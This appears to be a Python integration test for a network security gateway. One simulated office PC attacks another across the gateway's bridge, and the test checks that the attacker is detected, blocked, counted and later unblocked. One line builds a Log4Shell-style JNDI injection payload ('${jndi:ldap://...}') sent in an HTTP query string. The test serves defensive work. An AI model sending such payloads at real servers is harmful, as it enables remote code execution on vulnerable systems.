#!/usr/bin/env python3
"""bridge.py MAMORI BUILD - one PC attacks the other over the gateway's bridge. Their frames never pass family inet: the block in family bridge stops
them, which is proved and counted, and everybody else works on."""
import sys

from attacks import HTTP, REQUEST
from office import INTERNET, PC1, PC2, Office, case, failed, needs, until

MAMORI = sys.argv[1]
FETCH = "import sys, urllib.request\nsys.exit(0 if b'hello' in urllib.request.urlopen(sys.argv[1], timeout=5).read() else 1)"


def main():
    needs()
    o = Office(MAMORI, {"plugins": {"nft": {"config": {"family": "bridge"}}}})
    try:
        case("the_gateway_watches", o.start(), o.log())
        o.serve_python(o.pc1, HTTP, "0.0.0.0", 80)
        o.serve_python(o.inet, HTTP, "0.0.0.0", 80)
        case("the_pcs_reach_each_other", until(lambda: o.python(o.pc2, FETCH, f"http://{PC1}/").returncode == 0))
        shot = lambda n: o.python(o.pc2, REQUEST, PC2, PC1, 80, "/?q=${jndi:ldap://%s:1389/a}" % PC2, n, 0.1, "curl/7.88")
        shot(2)
        case("an_attack_from_pc_to_pc_gives_its_incident", until(lambda: o.evidence("9000002")), o.log())
        case("the_attacking_pc_is_blocked_on_the_bridge", until(lambda: o.blocked(PC2) is not None), o.cli("block", "list")[1] + o.log())
        before = o.blocked(PC2) or 0
        shot(1)
        case("its_frames_are_dropped_and_counted", until(lambda: (o.blocked(PC2) or 0) > before, 30), (before, o.blocked(PC2)))
        case("it_reaches_nobody", o.python(o.pc2, FETCH, f"http://{PC1}/").returncode != 0)
        case("others_work_on", o.python(o.pc1, FETCH, f"http://{INTERNET}/").returncode == 0)
        rc, out, err = o.cli("block", "undo-all")
        case("one_command_takes_it_back", rc == 0 and until(lambda: o.python(o.pc2, FETCH, f"http://{PC1}/").returncode == 0), out + err)
    finally:
        o.end()
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
